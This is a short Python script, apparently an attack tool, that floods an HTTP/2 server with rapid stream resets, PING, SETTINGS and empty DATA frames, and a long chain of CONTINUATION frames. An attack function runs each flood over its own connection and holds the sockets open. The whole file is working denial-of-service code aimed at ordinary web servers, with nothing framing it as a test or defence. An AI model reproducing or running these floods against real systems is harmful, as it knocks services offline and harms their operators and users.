"""Rapid resets, pings, settings, empty frames, heads in pieces: as many as the other side takes."""
from frames import (CONTINUATION, DATA, HEADERS, PING, RST_STREAM, SETTINGS, frame, head, opened, send)


def resets():
    for stream in range(1, 40000, 2):
        yield head(stream, "GET", "/") + frame(RST_STREAM, 0, stream, b"\0\0\0\x08")


def pings():
    return (frame(PING, 0, 0, b"12345678") for _ in range(50000))


def settings():
    return (frame(SETTINGS, 0, 0) for _ in range(50000))


def empty_data():
    yield head(1, "POST", "/auth/login", False)
    yield from (frame(DATA, 0, 1) for _ in range(50000))


def pieces():
    yield frame(HEADERS, 0, 1, b"\0\x01a\x01b")
    yield from (frame(CONTINUATION, 0, 1, b"\0\x01a\x01b" * 200) for _ in range(5000))


def attack(node):
    held = []
    for flood in (resets, pings, settings, empty_data, pieces):
        client = opened(node)
        client.settimeout(2)
        for data in flood():
            if not send(client, data):
                break
        held.append(client)
    return held
